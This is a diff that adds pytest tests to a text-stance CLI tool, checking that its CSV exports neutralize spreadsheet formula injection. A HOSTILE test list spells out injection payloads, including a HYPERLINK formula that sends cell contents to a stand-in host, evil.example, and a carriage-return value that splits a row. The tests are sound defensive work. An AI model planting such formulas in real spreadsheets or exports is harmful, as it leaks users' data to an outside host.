@@ -4,6 +4,7 @@ other records, the inputs and the output files as they should be."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -389,3 +390,63 @@ def test_output_keeps_mode_and_writes_through_a_symlink(
     # an output that cannot be written is one line, not a traceback
     res = runner.invoke(main, ["sources", str(private), "-o", str(private / "x.csv")])
     assert res.exit_code == 1 and res.stderr.startswith(f"Error: cannot write {private / 'x.csv'}")
+
+
+# -- CSV formula injection (issue item 5) -------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+# A CR inside a cell ends the row for most readers (Python's csv module too), so the rest
+# would start a new row with a formula; written as LF, the cell is quoted and stays one.
+INSIDE = "outlet\r=HYPERLINK(1)"
+
+
+def _cells_are_safe(rows: list[list[str]]) -> None:
+    for cell in (c for r in rows for c in r):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
+
+
+def test_sources_csv_neutralizes_formulas(
+    runner: CliRunner, tiny_model_dir: Path, tmp_path: Path
+) -> None:
+    article = tmp_path / "a.txt"
+    article.write_text("الكيان الصهيوني يتمدد. يعتدي الكيان الصهيوني.\n", encoding="utf-8")
+    scored = tmp_path / "scored.jsonl"
+    with open(scored, "w", encoding="utf-8") as fh:
+        for name in [*HOSTILE, INSIDE, "Al-Waqt"]:
+            res = _score(runner, tiny_model_dir, "--format", "json", "--source", name, str(article))
+            assert res.exit_code == 0, res.output
+            fh.write(res.stdout)
+    res = runner.invoke(main, ["sources", "--format", "csv", str(scored)])
+    assert res.exit_code == 0, res.output
+    rows = list(csv.reader(io.StringIO(res.stdout, newline="")))
+    # (outlet names are stripped of spaces: "\t=1" and "\r=1" are the one outlet "=1")
+    want = {"Al-Waqt", "outlet\n=HYPERLINK(1)", *("'" + h.strip() for h in HOSTILE)}
+    assert sorted(r[0] for r in rows[1:]) == sorted(want)
+    for row in rows[1:]:
+        assert float(row[3]) < 0  # numbers stay numbers: a negative lean is not quoted
+    _cells_are_safe(rows)
+
+
+def test_terms_discover_csv_neutralizes_formulas(
+    runner: CliRunner, tiny_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Discovered n-grams start with a letter today; the CSV must not rely on it.
+    import stance.discover
+    from stance.discover import DiscoveredTerm
+
+    def hostile(*a: Any, **k: Any) -> dict[str, list[DiscoveredTerm]]:
+        terms = [*HOSTILE, INSIDE]
+        return {"pro": [DiscoveredTerm("pro", h, 1, 3, 0, 1.5, -2.0, False) for h in terms]}
+
+    monkeypatch.setattr(stance.discover, "discover_terms", hostile)
+    args = ["terms", "discover", "--annotations", str(tiny_dir), "--format", "csv"]
+    res = runner.invoke(main, args)
+    assert res.exit_code == 0, res.output
+    rows = list(csv.reader(io.StringIO(res.stdout, newline="")))
+    assert [r[1] for r in rows[1:]] == [
+        *("'" + h.replace("\r", "\n") for h in HOSTILE),
+        "outlet\n=HYPERLINK(1)",
+    ]
+    assert [r[6] for r in rows[1:]] == ["-2.0"] * (len(HOSTILE) + 1)
+    _cells_are_safe(rows)
